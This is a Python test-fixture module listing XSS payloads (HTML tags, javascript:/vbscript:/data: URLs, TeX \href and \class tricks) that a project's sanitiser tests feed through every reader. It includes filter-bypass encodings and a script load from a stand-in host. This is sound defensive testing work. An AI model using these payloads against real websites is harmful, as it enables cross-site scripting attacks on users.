"""XSS payloads, written for this project, grouped by where they are placed.

Each one would run `alert(...)` (or navigate to script) if it reached a page unescaped
or as a live attribute. test_xss.py feeds them through every reader.
"""
from __future__ import annotations

# Raw HTML: must come out as text.
HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\n>alert(3)</script\n>",
    "<img src=x onerror=alert(4)>",
    "<IMG SRC=x OnErRoR=alert(5)>",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<body onload=alert(8)>",
    "<iframe src=javascript:alert(9)></iframe>",
    "<iframe srcdoc=\"<script>alert(10)</script>\"></iframe>",
    "<object data=javascript:alert(11)></object>",
    "<embed src=javascript:alert(12)>",
    "<a href=javascript:alert(13)>click</a>",
    "<form action=javascript:alert(14)><button>go</button></form>",
    "<button formaction=javascript:alert(15)>x</button>",
    "<details open ontoggle=alert(16)>",
    "<math><mtext><script>alert(17)</script></mtext></math>",
    "<svg><a xlink:href=javascript:alert(18)><text>x</text></a></svg>",
    "<input autofocus onfocus=alert(19)>",
    "<video><source onerror=alert(20)></video>",
    "<style>@import 'javascript:alert(21)'</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(22)\">",
    "<base href=javascript:alert(23)//>",
    "<div style=\"background:url(javascript:alert(24))\">x</div>",
    "&lt;script&gt;alert(25)&lt;/script&gt;",
    "&#60;script&#62;alert(26)&#60;/script&#62;",
    "\"><script>alert(27)</script>",
    "'><img src=x onerror=alert(28)>",
    "</textarea><script>alert(29)</script>",
    "<!--<script>alert(30)</script>-->",
    "<scr<script>ipt>alert(31)</scr</script>ipt>",
]

# URLs: must never become a live href/src.
URLS = [
    "javascript:alert(40)",
    "JaVaScRiPt:alert(41)",
    " javascript:alert(42)",
    "java\tscript:alert(43)",
    "java&#x09;script:alert(44)",
    "&#106;avascript:alert(45)",
    "javascript&colon;alert(46)",
    "vbscript:msgbox(47)",
    "VBScript:msgbox(48)",
    "data:text/html,<script>alert(49)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg1MCk8L3NjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=alert(51)>",
    "javascript://%0aalert(52)",
    "\x01javascript:alert(53)",
]

# TeX: no link in math may carry a script URL, and TeX may not set a class, style, id or data
# attribute (markers "xss-..." must not reach any attribute), however the macro is spelled.
MATH = [
    r"\href{javascript:alert(60)}{x}",
    r"\url{javascript:alert(61)}",
    r"\href{JAVASCRIPT:alert(62)}{\text{<script>alert(63)</script>}}",
    r"x</span><script>alert(64)</script>",
    r"\unicode{<img src=x onerror=alert(65)>}",
    "\\href{\x01javascript:alert(66)//{}}{x}",
    r"\newcommand{\evil}{\href{javascript:alert(67)}}\evil{x}",
    r"\def\evil#1{\href{#1}{y}}\evil{vbscript:msgbox(68)}",
    "\\href{java\tscript:alert(69)}{z} \\href{ \x7fjavascript:alert(69)}{w}",
    r"\href{data:text/html,<script>alert(76)</script>}{d}",
    r"\class{xss-class}{\style{background:url(javascript:alert(77))}{\cssId{xss-id}{\data{xss=1}{x}}}}",
    r"\let\c\class \c{xss-class}{y} \newcommand{\s}{\style} \s{color:red;background:url(javascript:alert(78))}{z}",
    r"\mmlToken{mi}[href='javascript:alert(79)' class='xss-class' style='color:red' id='xss-id']{y}",
    r"\unicode[xss-font;background:url(javascript:alert(80))]{x41}",
    r"\unicode[xss-font]{x2260} \unicode{x41}",
    r"\require{html} \href{javascript:alert(81)}{r}",
    r"\require{action}\toggle{a}{\href{javascript:alert(82)}{b}}\endtoggle",
]

ALL = HTML + URLS + MATH
MARKER = "alert("  # every payload calls alert/msgbox: a live one is what the tests look for
TEX_MARKER = "xss"  # class, id, font and data names the TeX payloads try to set
